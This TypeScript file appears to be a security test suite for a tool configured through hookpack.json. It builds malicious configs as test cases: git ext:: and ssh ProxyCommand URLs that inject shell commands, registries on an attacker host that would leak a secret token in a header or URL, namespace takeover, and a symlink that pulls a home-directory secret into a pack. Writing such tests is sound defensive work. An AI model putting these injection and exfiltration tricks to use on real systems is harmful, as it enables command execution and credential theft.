import { symlinkSync } from 'node:fs'
import path from 'node:path'
import { put } from '../../scenarios/cli.ts'
import { GUARD } from '../clone.ts'
import { type Attack, request, VARIABLE, walk } from './attack.ts'

/** What hookpack.json may ask for. */
export const requests: readonly Attack[] = [
  {
    name: 'hookpack.json asks for a repository through a program',
    prepare: (at) => put(request(at), { packs: { x: { from: `git+ext::sh -c '${at.payload}'` } } }),
  },
  {
    name: 'hookpack.json asks for a repository with an option for an address',
    prepare: (at) =>
      put(request(at), { packs: { x: { from: `git+ssh://-oProxyCommand=touch ${at.outside}/ran/y` } } }),
  },
  {
    name: 'hookpack.json asks for a device as an archive',
    prepare: (at) => put(request(at), { packs: { x: { from: '/dev/zero.tgz' } } }),
  },
  {
    name: 'hookpack.json has a registry with a header of a secret',
    prepare: (at, evil) =>
      put(request(at), {
        packs: { x: '^1' },
        registries: { evil: { url: evil, headers: { authorization: `Bearer ${VARIABLE}` } } },
      }),
  },
  {
    name: 'hookpack.json has a registry with a secret in its address',
    prepare: (at, evil) =>
      put(request(at), { packs: { x: '^1' }, registries: { evil: `${evil}\${SECRET_TOKEN}/` } }),
  },
  {
    name: 'hookpack.json takes over the namespace that the user has',
    prepare: (at, evil) =>
      put(request(at), { packs: { '@mine/x': '^1' }, registries: { '@mine': { npm: evil } } }),
  },
  {
    name: 'hookpack.json switches the embedded registry off',
    prepare: (at, evil) =>
      put(request(at), { packs: { [GUARD]: '^1' }, registries: { hookpack: false, evil } }),
  },
  {
    name: 'a pack of the project holds a link to a secret',
    prepare: (at) => {
      const folder = path.join(at.project, 'pack')
      put(path.join(folder, 'package.json'), { name: 'stealing', version: '1.0.0' })
      put(path.join(folder, 'hooks.json'), { hooks: [] })
      symlinkSync(path.join(at.home, 'secret'), path.join(folder, 'secret.txt'))
      put(request(at), { packs: { stealing: { from: './pack' } } })
    },
    got: (at) =>
      JSON.stringify([...walk(at.folder)]).includes('hunter2') ? 'a secret in the project' : undefined,
  },
]
